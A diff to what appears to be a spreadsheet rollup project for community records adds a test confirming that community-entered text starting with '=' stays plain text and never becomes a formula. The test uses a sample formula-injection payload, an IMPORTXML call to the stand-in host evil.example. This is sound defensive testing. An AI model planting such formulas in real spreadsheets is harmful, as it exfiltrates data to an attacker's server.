@@ -208,3 +208,25 @@ test('openByUrl of a spreadsheet the user may not open fails as in Google (the f
   fake.setActiveUser(OWNER);
   expect(SpreadsheetApp.openById(hidden.getId()).getName()).toBe('北山社区积分台账');
 });
+
+test('text from a community that starts with = stays text in the 街道 book (never a formula, apps-script-facts §1.3)', () => {
+  const { fake, west, street } = world();
+  fake.setActiveUser(OWNER);
+  const evil = '=IMPORTXML("http://evil.example/?q","//a")';
+  const o = west.getSheetByName(TAB.objections)!.getRange(2, 1, 1, 4);
+  o.setNumberFormat('@');
+  o.setValues([['O1', '2026-02', '001', evil]]);
+  fake.setActiveUser(STREET);
+  rollupSpreadsheet(street, '2026-04');
+  const tab = street.getSheetByName('西湖社区')!.getDataRange();
+  expect(tab.getFormulas().flat().filter(Boolean)).toEqual([]);
+  expect(tab.getValues().find((r) => r[0] === 'O1')).toEqual([
+    'O1',
+    '2026-02',
+    `001 ${evil}`,
+    '待处理',
+    '',
+    '',
+    '',
+  ]);
+});
